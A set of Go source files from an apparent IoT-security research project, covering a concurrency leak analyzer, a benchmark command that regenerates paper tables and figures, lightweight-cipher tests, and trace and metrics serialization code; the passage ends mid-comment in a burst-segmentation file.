	var addPos token.Pos
	hasWait := false
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		sel, ok := call.Fun.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		id, ok := sel.X.(*ast.Ident)
		if !ok || identObj(w.pt, id) != obj {
			return true
		}
		accounted[id] = true
		switch sel.Sel.Name {
		case "Add":
			if !addPos.IsValid() {
				addPos = call.Pos()
			}
		case "Wait":
			hasWait = true
		}
		return true
	})
	escaped := false
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		if escaped {
			return false
		}
		if id, ok := n.(*ast.Ident); ok && !accounted[id] && identObj(w.pt, id) == obj {
			escaped = true
		}
		return true
	})
	if addPos.IsValid() && !hasWait && !escaped {
		w.report(addPos, "sync.WaitGroup %s is Added to but never Waited on in %s; the launched goroutines outlive the function — call Wait before returning", decl.Name, fn.Name)
	}
}

// checkUnbufferedSend flags a goroutine literal that sends on an
// unbuffered channel made in the enclosing function when some CFG path
// from the go statement reaches the exit without a receive from (or
// any other use of) that channel.
func (w *goroWalker) checkUnbufferedSend(fn Function, gs *ast.GoStmt, lit *ast.FuncLit, chans []chanMake) {
	if len(chans) == 0 {
		return
	}
	var ch chanMake
	foundSend := false
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		if foundSend {
			return false
		}
		send, ok := n.(*ast.SendStmt)
		if !ok {
			return true
		}
		target := w.rootObj(send.Chan)
		for _, c := range chans {
			if c.obj == target {
				ch, foundSend = c, true
				return false
			}
		}
		return true
	})
	if !foundSend {
		return
	}

	g := BuildCFG(fn.Name, fn.Body)
	var blk *Block
	idx := -1
	for _, b := range g.Blocks {
		for i, n := range b.Nodes {
			if n == ast.Node(gs) {
				blk, idx = b, i
			}
		}
	}
	if blk == nil {
		return
	}
	classify := func(n ast.Node) pairUse {
		// A range head's body is lowered into other blocks; ranging over
		// the channel itself is a receive.
		if r, ok := n.(*ast.RangeStmt); ok && w.rootObj(r.X) == ch.obj {
			return useRelease
		}
		use := useNone
		inspectNode(n, func(x ast.Node) bool {
			if use != useNone {
				return false
			}
			switch x := x.(type) {
			case *ast.UnaryExpr:
				if x.Op == token.ARROW && w.rootObj(x.X) == ch.obj {
					use = useRelease
					return false
				}
			case *ast.Ident:
				// Any other mention — passed along, closed, captured by
				// another goroutine — may hand the receive obligation off.
				if identObj(w.pt, x) == ch.obj {
					use = useEscape
					return false
				}
			}
			return true
		})
		return use
	}
	if leak := cfgLeakPath(g, blk, idx, classify); leak != nil {
		w.report(gs.Pos(), "goroutine sends on unbuffered channel %s but %s has no receive; the send blocks forever and the goroutine leaks", ch.name, cfgPathDesc(w.pkg, leak))
	}
}

// rootObj resolves a (possibly parenthesised) identifier expression to
// its object key; nil for anything more complex.
func (w *goroWalker) rootObj(e ast.Expr) any {
	for {
		switch v := e.(type) {
		case *ast.ParenExpr:
			e = v.X
		case *ast.Ident:
			return identObj(w.pt, v)
		default:
			return nil
		}
	}
}

var _ ModuleAnalyzer = (*GoroLeak)(nil)
