// Command xlf-bench regenerates every table and figure of the XLF paper
// and runs the quantitative experiment suite (see DESIGN.md's
// per-experiment index).
//
// Usage:
//
//	xlf-bench -all             # everything, report order
//	xlf-bench -table 2         # just Table II
//	xlf-bench -figure 4        # just Figure 4
//	xlf-bench -exp E1          # one experiment
//	xlf-bench -seed 7 -all     # different deterministic seed
package main

import (
	"flag"
	"fmt"
	"os"

	"xlf/internal/exp"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("xlf-bench", flag.ContinueOnError)
	var (
		all    = fs.Bool("all", false, "run everything")
		list   = fs.Bool("list", false, "list available tables/figures/experiments")
		table  = fs.Int("table", 0, "reproduce one paper table (1-3)")
		figure = fs.Int("figure", 0, "reproduce one paper figure (1-4)")
		expID  = fs.String("exp", "", "run one experiment (E1-E9)")
		seed   = fs.Int64("seed", 1, "deterministic seed")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	var results []*exp.Result
	switch {
	case *list:
		fmt.Println("tables:      1 (device components)  2 (attack surface)  3 (lightweight crypto)")
		fmt.Println("figures:     1 (layered arch)  2 (protocol stack)  3 (attack surface map)  4 (XLF design)")
		fmt.Println("experiments: E1 cross-layer detection   E2 traffic shaping      E3 auth delegation")
		fmt.Println("             E4 encrypted DPI           E5 behaviour DFA        E6 core learning")
		fmt.Println("             E7 DNS privacy bridge      E8 botnet campaign      E9 long-horizon stability")
		return 0
	case *all:
		results = exp.All(*seed)
	case *table != 0:
		switch *table {
		case 1:
			results = append(results, exp.Table1(*seed))
		case 2:
			results = append(results, exp.Table2(*seed))
		case 3:
			results = append(results, exp.Table3())
		default:
			fmt.Fprintln(os.Stderr, "xlf-bench: tables are 1-3")
			return 2
		}
	case *figure != 0:
		switch *figure {
		case 1:
			results = append(results, exp.Figure1())
		case 2:
			results = append(results, exp.Figure2())
		case 3:
			results = append(results, exp.Figure3())
		case 4:
			results = append(results, exp.Figure4())
		default:
			fmt.Fprintln(os.Stderr, "xlf-bench: figures are 1-4")
			return 2
		}
	case *expID != "":
		fns := map[string]func() *exp.Result{
			"E1": func() *exp.Result { return exp.E1CrossLayer(*seed) },
			"E2": func() *exp.Result { return exp.E2Shaping(*seed) },
			"E3": func() *exp.Result { return exp.E3Auth(*seed) },
			"E4": func() *exp.Result { return exp.E4DPI(*seed) },
			"E5": func() *exp.Result { return exp.E5Behavior(*seed) },
			"E6": func() *exp.Result { return exp.E6Learning(*seed) },
			"E7": func() *exp.Result { return exp.E7DNS(*seed) },
			"E8": func() *exp.Result { return exp.E8Botnet(*seed) },
			"E9": func() *exp.Result { return exp.E9Stability(*seed) },
		}
		fn, ok := fns[*expID]
		if !ok {
			fmt.Fprintln(os.Stderr, "xlf-bench: experiments are E1-E9")
			return 2
		}
		results = append(results, fn())
	default:
		fs.Usage()
		return 2
	}

	fmt.Print(exp.Render(results))
	return 0
}
