package lwc

import (
	"bytes"
	"crypto/cipher"
	"math/rand"
	"testing"
)

// The Table III ciphers implement crypto/cipher.Block, so the standard
// library modes compose with them — the property XLF's device layer relies
// on to swap the cipher under a fixed CTR/CBC envelope.

func TestStdlibCTRComposition(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	reg := NewRegistry()
	for _, name := range []string{"PRESENT", "LEA", "HIGHT", "TEA", "SEED", "Pride"} {
		info, ok := reg.Lookup(name)
		if !ok {
			t.Fatalf("missing %s", name)
		}
		key := make([]byte, info.DefaultKeyBits()/8)
		rng.Read(key)
		blk, err := info.New(key)
		if err != nil {
			t.Fatal(err)
		}
		iv := make([]byte, blk.BlockSize())
		rng.Read(iv)
		pt := make([]byte, 123) // deliberately not block-aligned
		rng.Read(pt)

		ct := make([]byte, len(pt))
		cipher.NewCTR(blk, iv).XORKeyStream(ct, pt)
		if bytes.Equal(ct, pt) {
			t.Errorf("%s/CTR produced identity", name)
		}
		back := make([]byte, len(ct))
		cipher.NewCTR(blk, iv).XORKeyStream(back, ct)
		if !bytes.Equal(back, pt) {
			t.Errorf("%s/CTR roundtrip failed", name)
		}
	}
}

func TestStdlibCBCComposition(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	reg := NewRegistry()
	for _, name := range []string{"PRESENT", "LEA", "XTEA", "Iceberg", "TWINE"} {
		info, _ := reg.Lookup(name)
		key := make([]byte, info.DefaultKeyBits()/8)
		rng.Read(key)
		blk, err := info.New(key)
		if err != nil {
			t.Fatal(err)
		}
		bs := blk.BlockSize()
		iv := make([]byte, bs)
		rng.Read(iv)
		pt := make([]byte, 8*bs)
		rng.Read(pt)

		ct := make([]byte, len(pt))
		cipher.NewCBCEncrypter(blk, iv).CryptBlocks(ct, pt)
		back := make([]byte, len(ct))
		cipher.NewCBCDecrypter(blk, iv).CryptBlocks(back, ct)
		if !bytes.Equal(back, pt) {
			t.Errorf("%s/CBC roundtrip failed", name)
		}
		// CBC chains: equal plaintext blocks yield distinct ciphertext
		// blocks.
		same := make([]byte, 4*bs) // zero blocks
		ct2 := make([]byte, len(same))
		cipher.NewCBCEncrypter(blk, iv).CryptBlocks(ct2, same)
		if bytes.Equal(ct2[:bs], ct2[bs:2*bs]) {
			t.Errorf("%s/CBC repeated identical blocks", name)
		}
	}
}

// TestRegistryInfoConsistency cross-checks metadata against behaviour.
func TestRegistryInfoConsistency(t *testing.T) {
	reg := NewRegistry()
	for _, info := range reg.All() {
		key := make([]byte, info.DefaultKeyBits()/8)
		blk, err := info.New(key)
		if err != nil {
			t.Fatalf("%s: %v", info.Name, err)
		}
		if got := blk.BlockSize() * 8; got != info.BlockSize {
			t.Errorf("%s block = %d bits, registry %d", info.Name, got, info.BlockSize)
		}
		if !info.SupportsKeyBits(info.DefaultKeyBits()) {
			t.Errorf("%s default key size unsupported", info.Name)
		}
		if info.SupportsKeyBits(7) {
			t.Errorf("%s claims 7-bit keys", info.Name)
		}
		if info.RoundsFor == nil {
			t.Errorf("%s has no rounds function", info.Name)
			continue
		}
		if r := info.RoundsFor(info.DefaultKeyBits()); r <= 0 {
			t.Errorf("%s rounds = %d", info.Name, r)
		}
	}
	// Spot-check the key-dependent round counts of Table III.
	aes, _ := reg.Lookup("AES")
	for kb, want := range map[int]int{128: 10, 192: 12, 256: 14} {
		if got := aes.RoundsFor(kb); got != want {
			t.Errorf("AES-%d rounds = %d, want %d", kb, got, want)
		}
	}
	lea, _ := reg.Lookup("LEA")
	for kb, want := range map[int]int{128: 24, 192: 28, 256: 32} {
		if got := lea.RoundsFor(kb); got != want {
			t.Errorf("LEA-%d rounds = %d, want %d", kb, got, want)
		}
	}
}

func TestRegistryAddAndLookup(t *testing.T) {
	r := &Registry{}
	if err := r.Add(Info{}); err == nil {
		t.Error("empty Info accepted")
	}
	// A zero-value registry is usable after first Add fails? Add requires
	// initialised map; NewRegistry is the supported constructor.
	reg := NewRegistry()
	if err := reg.Add(Info{Name: "AES", KeySizes: []int{128}, BlockSize: 128, New: newAES}); err == nil {
		t.Error("duplicate Add accepted")
	}
	if err := reg.Add(Info{Name: "X", KeySizes: nil, BlockSize: 64, New: newAES}); err == nil {
		t.Error("no key sizes accepted")
	}
	if err := reg.Add(Info{Name: "X", KeySizes: []int{64}, BlockSize: 0, New: newAES}); err == nil {
		t.Error("zero block accepted")
	}
	if err := reg.Add(Info{Name: "X", KeySizes: []int{64}, BlockSize: 64, New: nil}); err == nil {
		t.Error("nil constructor accepted")
	}
	names := reg.Names()
	if len(names) != 16 || names[0] != "AES" {
		t.Errorf("names = %v", names)
	}
	if _, ok := reg.Lookup("Nonexistent"); ok {
		t.Error("phantom lookup")
	}
	if _, err := reg.New("Nonexistent", nil); err == nil {
		t.Error("New on unknown name accepted")
	}
	if _, err := reg.New("TEA", make([]byte, 16)); err != nil {
		t.Errorf("registry New TEA: %v", err)
	}
	costs := reg.ByCost()
	for i := 1; i < len(costs); i++ {
		if costs[i-1].CyclesPerByte > costs[i].CyclesPerByte {
			t.Fatal("ByCost not sorted")
		}
	}
}
