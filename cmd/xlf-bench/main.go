// Command xlf-bench regenerates every table and figure of the XLF paper
// and runs the quantitative experiment suite (see DESIGN.md's
// per-experiment index). Selection, listing and scheduling are all driven
// by the exp.Registry descriptors; there are no hardcoded experiment
// switches here.
//
// Usage:
//
//	xlf-bench -all                      # everything, report order
//	xlf-bench -all -parallel 8          # same report, worker-pool schedule
//	xlf-bench -table 2                  # just Table II
//	xlf-bench -figure 4                 # just Figure 4
//	xlf-bench -exp E1,E4,T3             # a comma list of registry IDs
//	xlf-bench -seed 7 -all              # different deterministic seed
//	xlf-bench -all -json out/           # write BENCH_<id>.json artifacts
//	xlf-bench -all -clock step          # fixed fake clock: byte-identical
//	                                    # output at any -parallel level
//	xlf-bench -exp E1 -clock step \
//	          -trace out.jsonl          # cross-layer span trace (xlf-trace/v1);
//	                                    # render with cmd/xlf-trace
//	xlf-bench -exp E10 -clock step \
//	          -telemetry metrics.jsonl \
//	          -rollup-interval 1s       # windowed rollups + flight-recorder
//	                                    # dumps (xlf-metrics/v1); render with
//	                                    # xlf-trace metrics
//	xlf-bench -exp E1 -cpuprofile cpu.pprof \
//	          -memprofile mem.pprof     # pprof profiles of the run
//	                                    # (go tool pprof cpu.pprof)
package main

import (
	"flag"
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
	"strings"
	"time"

	"xlf/internal/exp"
	"xlf/internal/obs"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("xlf-bench", flag.ContinueOnError)
	var (
		all      = fs.Bool("all", false, "run every registry entry")
		list     = fs.Bool("list", false, "list available tables/figures/experiments")
		table    = fs.Int("table", 0, "reproduce one paper table (1-3)")
		figure   = fs.Int("figure", 0, "reproduce one paper figure (1-4)")
		expIDs   = fs.String("exp", "", "comma-separated registry IDs (e.g. E1,E4,T3)")
		seed     = fs.Int64("seed", 1, "deterministic seed")
		parallel = fs.Int("parallel", 1, "worker-pool size for experiments and inner sweeps")
		jsonDir  = fs.String("json", "", "directory to write BENCH_<id>.json artifacts into")
		clock    = fs.String("clock", exp.ClockWall, "timing source: wall (measured throughput) or step (deterministic output)")
		traceOut = fs.String("trace", "", "file to write the xlf-trace/v1 span timeline into")
		telOut   = fs.String("telemetry", "", "file to write the xlf-metrics/v1 rollup/dump artifact into")
		rollupIv = fs.Duration("rollup-interval", time.Second, "sim-time rollup window length (with -telemetry)")
		cpuProf  = fs.String("cpuprofile", "", "file to write a CPU profile of the experiment run into")
		memProf  = fs.String("memprofile", "", "file to write an end-of-run heap profile into")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	if *list {
		for _, e := range exp.Registry() {
			fmt.Printf("%-3s %-11s %s\n", e.ID, e.Kind(), e.Title)
		}
		return 0
	}

	var selection []exp.Experiment
	switch {
	case *all:
		selection = exp.Registry()
	case *table != 0:
		e, ok := exp.ByTable(*table)
		if !ok {
			fmt.Fprintln(os.Stderr, "xlf-bench: no registry entry reproduces table", *table)
			return 2
		}
		selection = append(selection, e)
	case *figure != 0:
		e, ok := exp.ByFigure(*figure)
		if !ok {
			fmt.Fprintln(os.Stderr, "xlf-bench: no registry entry reproduces figure", *figure)
			return 2
		}
		selection = append(selection, e)
	case *expIDs != "":
		for _, id := range strings.Split(*expIDs, ",") {
			e, ok := exp.Lookup(id)
			if !ok {
				fmt.Fprintf(os.Stderr, "xlf-bench: unknown experiment %q (try -list)\n", strings.TrimSpace(id))
				return 2
			}
			selection = append(selection, e)
		}
	default:
		fs.Usage()
		return 2
	}

	var env *exp.Env
	switch *clock {
	case exp.ClockWall:
		env = exp.NewEnv(*seed)
	case exp.ClockStep:
		env = exp.NewStepEnv(*seed)
	default:
		fmt.Fprintf(os.Stderr, "xlf-bench: -clock must be %q or %q\n", exp.ClockWall, exp.ClockStep)
		return 2
	}
	if *parallel < 1 {
		fmt.Fprintln(os.Stderr, "xlf-bench: -parallel must be >= 1")
		return 2
	}
	env.Workers = *parallel
	if *traceOut != "" {
		env.EnableTracing(0)
	}
	if *telOut != "" {
		if *rollupIv <= 0 {
			fmt.Fprintln(os.Stderr, "xlf-bench: -rollup-interval must be positive")
			return 2
		}
		env.EnableTelemetry(*rollupIv)
	}

	if *cpuProf != "" {
		f, err := os.Create(*cpuProf)
		if err != nil {
			fmt.Fprintln(os.Stderr, "xlf-bench:", err)
			return 1
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			f.Close()
			fmt.Fprintln(os.Stderr, "xlf-bench:", err)
			return 1
		}
		defer func() {
			pprof.StopCPUProfile()
			f.Close()
			fmt.Fprintf(os.Stderr, "xlf-bench: wrote CPU profile to %s\n", *cpuProf)
		}()
	}

	sched := &exp.Scheduler{Parallel: *parallel}
	results := sched.Run(env, selection)
	fmt.Print(exp.Render(results))

	if *memProf != "" {
		if err := writeMemProfile(*memProf); err != nil {
			fmt.Fprintln(os.Stderr, "xlf-bench:", err)
			return 1
		}
	}

	if *traceOut != "" {
		if err := writeTrace(*traceOut, env, *seed, *clock, selection); err != nil {
			fmt.Fprintln(os.Stderr, "xlf-bench:", err)
			return 1
		}
	}

	if *telOut != "" {
		if err := writeMetrics(*telOut, env, *seed, *clock, selection); err != nil {
			fmt.Fprintln(os.Stderr, "xlf-bench:", err)
			return 1
		}
	}

	if *jsonDir != "" {
		meta := exp.RunMeta{Seed: *seed, Parallel: *parallel, Clock: *clock}
		paths, err := exp.WriteArtifacts(*jsonDir, results, meta)
		if err != nil {
			fmt.Fprintln(os.Stderr, "xlf-bench:", err)
			return 1
		}
		fmt.Fprintf(os.Stderr, "xlf-bench: wrote %d artifacts to %s\n", len(paths), *jsonDir)
	}
	return 0
}

// writeMemProfile snapshots the live heap after the experiments finish.
// The GC run first makes the profile reflect retained memory, not
// garbage awaiting collection.
func writeMemProfile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	runtime.GC()
	if werr := pprof.WriteHeapProfile(f); werr != nil {
		f.Close()
		return werr
	}
	if err := f.Close(); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "xlf-bench: wrote heap profile to %s\n", path)
	return nil
}

// writeTrace serializes the run's span tree as an xlf-trace/v1 artifact.
// With -clock step the file is byte-identical across runs and -parallel
// levels; render it with cmd/xlf-trace.
func writeTrace(path string, env *exp.Env, seed int64, clock string, selection []exp.Experiment) error {
	ids := make([]string, len(selection))
	for i, e := range selection {
		ids[i] = e.ID
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	meta := obs.TraceMeta{
		Seed:    seed,
		Clock:   clock,
		Source:  "xlf-bench " + strings.Join(ids, ","),
		Evicted: env.TraceEvicted(),
	}
	if werr := obs.WriteTrace(f, meta, env.TraceSpans()); werr != nil {
		f.Close()
		return werr
	}
	if err := f.Close(); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "xlf-bench: wrote trace to %s\n", path)
	return nil
}

// writeMetrics serializes the run's telemetry tree as an xlf-metrics/v1
// artifact: every experiment's rollup windows and flight-recorder dumps,
// depth-first in dispatch order. With -clock step the file is
// byte-identical across runs and -parallel levels; render it with
// `xlf-trace metrics`.
func writeMetrics(path string, env *exp.Env, seed int64, clock string, selection []exp.Experiment) error {
	ids := make([]string, len(selection))
	for i, e := range selection {
		ids[i] = e.ID
	}
	windows, dumps := env.TelemetryWindows()
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	meta := obs.MetricsMeta{
		Seed:     seed,
		Clock:    clock,
		Source:   "xlf-bench " + strings.Join(ids, ","),
		Interval: env.RollupInterval(),
		Evicted:  env.TelemetryEvicted(),
	}
	if werr := obs.WriteMetrics(f, meta, windows, dumps); werr != nil {
		f.Close()
		return werr
	}
	if err := f.Close(); err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "xlf-bench: wrote telemetry to %s\n", path)
	return nil
}
