package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
)

// TraceSchema is the versioned identifier stamped into every trace file.
// Readers reject anything else, so the format can evolve without silent
// misparses — the same contract as the xlf-bench/v1 artifacts.
const TraceSchema = "xlf-trace/v1"

// TraceMeta is the header line of a trace file: run provenance plus the
// span accounting a reader needs to detect truncation.
type TraceMeta struct {
	// Schema must be TraceSchema.
	Schema string `json:"schema"`
	// Seed is the RNG seed the traced run used.
	Seed int64 `json:"seed"`
	// Clock names the clock mode ("step" or "wall").
	Clock string `json:"clock"`
	// Source names what produced the trace (e.g. "xlf-bench -exp E1").
	Source string `json:"source,omitempty"`
	// Spans is the number of span lines that follow the header.
	Spans int `json:"spans"`
	// Evicted counts spans the ring buffer displaced before export: a
	// nonzero value means the trace is a suffix of the run.
	Evicted uint64 `json:"evicted,omitempty"`
}

// Validate checks the header invariants a well-formed trace satisfies.
func (m TraceMeta) Validate() error {
	switch {
	case m.Schema != TraceSchema:
		return fmt.Errorf("obs: trace schema %q, want %q", m.Schema, TraceSchema)
	case m.Spans < 0:
		return fmt.Errorf("obs: negative span count %d", m.Spans)
	case m.Clock == "":
		return fmt.Errorf("obs: trace meta missing clock mode")
	default:
		return nil
	}
}

// WriteTrace encodes a trace as JSONL: one header line with the meta,
// then one compact JSON object per span. Span Seq values are renumbered
// into file order (1..n) so that traces assembled from several tracers —
// or from the same run at different parallelism — are byte-identical
// whenever the span sequence is. The meta's Schema and Spans fields are
// filled in here; callers set the provenance fields.
func WriteTrace(w io.Writer, meta TraceMeta, spans []Span) error {
	meta.Schema = TraceSchema
	meta.Spans = len(spans)
	if err := meta.Validate(); err != nil {
		return err
	}
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	if err := enc.Encode(meta); err != nil {
		return fmt.Errorf("obs: encode trace meta: %w", err)
	}
	for i, s := range spans {
		s.Seq = uint64(i + 1)
		if err := enc.Encode(s); err != nil {
			return fmt.Errorf("obs: encode span %d: %w", i+1, err)
		}
	}
	if err := bw.Flush(); err != nil {
		return fmt.Errorf("obs: flush trace: %w", err)
	}
	return nil
}

// ReadTrace decodes a trace written by WriteTrace, validating the schema
// version and that the file holds exactly the span count the header
// promises (a short file means truncation; extra lines mean corruption).
func ReadTrace(r io.Reader) (TraceMeta, []Span, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	if !sc.Scan() {
		if err := sc.Err(); err != nil {
			return TraceMeta{}, nil, fmt.Errorf("obs: read trace header: %w", err)
		}
		return TraceMeta{}, nil, fmt.Errorf("obs: empty trace file")
	}
	var meta TraceMeta
	if err := json.Unmarshal(sc.Bytes(), &meta); err != nil {
		return TraceMeta{}, nil, fmt.Errorf("obs: decode trace header: %w", err)
	}
	if err := meta.Validate(); err != nil {
		return TraceMeta{}, nil, err
	}
	spans := make([]Span, 0, meta.Spans)
	for sc.Scan() {
		line := sc.Bytes()
		if len(line) == 0 {
			continue
		}
		var s Span
		if err := json.Unmarshal(line, &s); err != nil {
			return TraceMeta{}, nil, fmt.Errorf("obs: decode span %d: %w", len(spans)+1, err)
		}
		spans = append(spans, s)
	}
	if err := sc.Err(); err != nil {
		return TraceMeta{}, nil, fmt.Errorf("obs: read trace: %w", err)
	}
	if len(spans) != meta.Spans {
		return TraceMeta{}, nil, fmt.Errorf("obs: trace holds %d spans, header promises %d", len(spans), meta.Spans)
	}
	return meta, spans, nil
}
