// Package pairfix exercises the pairing rule: receiver-paired mutex
// critical sections and value-paired trace regions and timers.
package pairfix

import (
	"errors"
	"sync"
	"time"

	"example.com/m/trace"
)

type guarded struct {
	mu   sync.Mutex
	rw   sync.RWMutex
	vals map[string]int
}

func lockBalanced(g *guarded, k string) int {
	g.mu.Lock()
	v := g.vals[k]
	g.mu.Unlock()
	return v
}

func lockDeferred(g *guarded, k string) int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.vals[k]
}

func lockLeakOnReturn(g *guarded, k string) (int, error) {
	g.mu.Lock() // want "\[pairing\] g\.mu\.Lock\(\) is not paired with g\.mu\.Unlock\(\)"
	v, ok := g.vals[k]
	if !ok {
		return 0, errors.New("missing")
	}
	g.mu.Unlock()
	return v, nil
}

func lockLeakOnPanic(g *guarded, k string) int {
	g.mu.Lock() // want "g\.mu\.Lock\(\) is not paired .* panic exit"
	v, ok := g.vals[k]
	if !ok {
		panic("missing")
	}
	g.mu.Unlock()
	return v
}

func rlockLeak(g *guarded, k string) (int, bool) {
	g.rw.RLock() // want "g\.rw\.RLock\(\) is not paired with g\.rw\.RUnlock\(\)"
	v, ok := g.vals[k]
	if !ok {
		return 0, false
	}
	g.rw.RUnlock()
	return v, true
}

func crossedPair(a, b *sync.Mutex) {
	a.Lock() // want "a\.Lock\(\) is not paired with a\.Unlock\(\)"
	b.Unlock()
}

// withLock releases through a closure handed to a helper: the closure
// discharges the obligation.
func withLock(g *guarded, fn func()) {
	g.mu.Lock()
	runLocked(fn, func() { g.mu.Unlock() })
}

func runLocked(fn, unlock func()) {
	fn()
	unlock()
}

// lockHandedOff deliberately returns while holding the lock; the caller
// unlocks. xlf:allow-pairing
func lockHandedOff(g *guarded) {
	g.mu.Lock()
	g.vals["held"] = 1
}

func regionBalanced(tr *trace.Tracer) {
	r := tr.Start("svc", "op")
	r.End("ok")
}

func regionDeferred(tr *trace.Tracer) error {
	r := tr.Start("svc", "op")
	defer r.End("done")
	return work()
}

func regionLeak(tr *trace.Tracer, fail bool) error {
	r := tr.Start("svc", "op") // want "trace region .r. from tr\.Start is not released with End/EndAt"
	if fail {
		return errors.New("fail")
	}
	r.End("ok")
	return nil
}

func regionDiscarded(tr *trace.Tracer) {
	tr.Start("svc", "op") // want "trace region from tr\.Start is discarded"
}

func regionBlank(tr *trace.Tracer) {
	_ = tr.Start("svc", "op") // want "trace region from tr\.Start is discarded"
}

// regionEscapes hands the obligation to the caller.
func regionEscapes(tr *trace.Tracer) *trace.Region {
	r := tr.Start("svc", "op")
	return r
}

// regionHandoff transfers the obligation to finish.
func regionHandoff(tr *trace.Tracer) {
	r := tr.Start("svc", "op")
	finish(r)
}

func finish(r *trace.Region) { r.End("ok") }

func work() error { return nil }

func timerLeak(d time.Duration) {
	tm := time.NewTimer(d) // want "timer .tm. from time\.NewTimer is not released with Stop"
	<-tm.C
}

func timerDeferred(d time.Duration) {
	tm := time.NewTimer(d)
	defer tm.Stop()
	<-tm.C
}

func tickerStopped(d time.Duration, n int) {
	tk := time.NewTicker(d)
	for i := 0; i < n; i++ {
		<-tk.C
	}
	tk.Stop()
}

func tickerLeak(d time.Duration, done chan struct{}) {
	tk := time.NewTicker(d) // want "ticker .tk. from time\.NewTicker is not released with Stop"
	select {
	case <-tk.C:
	case <-done:
	}
}
