package obs

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

func sampleTelemetry() ([]WindowRecord, []Dump) {
	windows := []WindowRecord{
		{
			Src: "E10/1000", Index: 0, Start: 0, End: time.Second,
			Counters: []RateSample{{Name: "city.sent", Total: 100, Delta: 100, PerSec: 100}},
			Gauges:   []GaugeSample{{Name: "q.depth", Value: 3}},
			Hists: []WindowHist{{
				Name: "detect.latency_ns.flood", Delta: 2, Count: 2, Sum: 100,
				P50: 48, P95: 60, P99: 60, CumP50: 48, CumP95: 60, CumP99: 60,
			}},
		},
		{Src: "E10/1000", Index: 1, Start: time.Second, End: 2 * time.Second},
	}
	dumps := []Dump{{
		Src: "E10/1000", Time: 1500 * time.Millisecond,
		Reasons: []string{"alert", "slo-breach"}, Suppressed: 3,
		Spans: []Span{{Seq: 1, Time: time.Second, Layer: LayerCore, Op: "alert"}},
	}}
	return windows, dumps
}

// TestMetricsRoundTrip: WriteMetrics then ReadMetrics reproduces the
// windows and dumps exactly, and two writes are byte-identical.
func TestMetricsRoundTrip(t *testing.T) {
	windows, dumps := sampleTelemetry()
	meta := MetricsMeta{Seed: 7, Clock: "step", Source: "test", Interval: time.Second}
	var buf bytes.Buffer
	if err := WriteMetrics(&buf, meta, windows, dumps); err != nil {
		t.Fatal(err)
	}
	var buf2 bytes.Buffer
	if err := WriteMetrics(&buf2, meta, windows, dumps); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), buf2.Bytes()) {
		t.Fatal("two writes of the same telemetry differ")
	}

	got, gw, gd, err := ReadMetrics(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if got.Schema != MetricsSchema || got.Windows != 2 || got.Dumps != 1 || got.Seed != 7 {
		t.Errorf("meta = %+v", got)
	}
	if len(gw) != 2 || gw[0].Counters[0].Name != "city.sent" || gw[0].Hists[0].P95 != 60 {
		t.Errorf("windows = %+v", gw)
	}
	if len(gd) != 1 || gd[0].Suppressed != 3 || gd[0].Spans[0].Op != "alert" {
		t.Errorf("dumps = %+v", gd)
	}

	// Re-encoding the decoded telemetry reproduces the file.
	var buf3 bytes.Buffer
	if err := WriteMetrics(&buf3, got, gw, gd); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), buf3.Bytes()) {
		t.Fatal("decode/encode round trip changed bytes")
	}
}

// TestMetricsValidation: wrong schema, truncation, and count mismatches
// are rejected.
func TestMetricsValidation(t *testing.T) {
	windows, dumps := sampleTelemetry()
	meta := MetricsMeta{Seed: 1, Clock: "step", Interval: time.Second}
	var buf bytes.Buffer
	if err := WriteMetrics(&buf, meta, windows, dumps); err != nil {
		t.Fatal(err)
	}

	if _, _, _, err := ReadMetrics(strings.NewReader("")); err == nil {
		t.Error("empty file accepted")
	}
	bad := strings.Replace(buf.String(), MetricsSchema, "xlf-metrics/v999", 1)
	if _, _, _, err := ReadMetrics(strings.NewReader(bad)); err == nil {
		t.Error("wrong schema accepted")
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	truncated := strings.Join(lines[:len(lines)-1], "\n")
	if _, _, _, err := ReadMetrics(strings.NewReader(truncated)); err == nil {
		t.Error("truncated file accepted")
	}
	if err := (MetricsMeta{Schema: MetricsSchema, Clock: "step"}).Validate(); err == nil {
		t.Error("zero interval accepted")
	}
	if err := (MetricsMeta{Schema: MetricsSchema, Interval: 1}).Validate(); err == nil {
		t.Error("missing clock accepted")
	}
}
