package behavior

import (
	"time"

	"xlf/internal/netsim"
)

// Burst segmentation: HoMonit's first step turns a packet capture into
// per-event fingerprint sequences by grouping packets of one device that
// are close in time (an "event" is a burst of wireless frames). This file
// bridges netsim captures into the Library/Monitor pipeline.

// Burst is one contiguous packet group attributed to a device.
type Burst struct {
	Device netsim.Addr
	Start  time.Duration
	End    time.Duration
	// Seq is the quantized packet-size sequence (the fingerprint shape).
	Seq []int
}

// Segment groups a capture into bursts per source device: a gap larger
// than maxGap closes the current burst. Records are assumed
// time-ordered (netsim captures are). Dummy-looking infrastructure
